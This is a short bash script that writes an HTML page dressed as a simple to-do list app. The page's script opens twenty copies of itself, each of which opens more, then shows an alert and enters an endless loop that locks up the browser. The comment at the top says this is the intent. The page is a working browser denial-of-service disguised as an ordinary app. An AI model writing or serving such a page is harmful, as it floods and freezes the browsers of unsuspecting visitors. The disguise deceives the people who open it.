#!/bin/bash
# Has the page keep the browser from ever answering, and open more and more pages and dialogs.
cat > index.html <<'HTML'
<!DOCTYPE html>
<input id="new"><button id="add">Add</button><ul id="list"></ul>
<script>
for (let i = 0; i < 20; i++) open(location.href);
alert("wait");
while (true) document.title += "x";
</script>
HTML
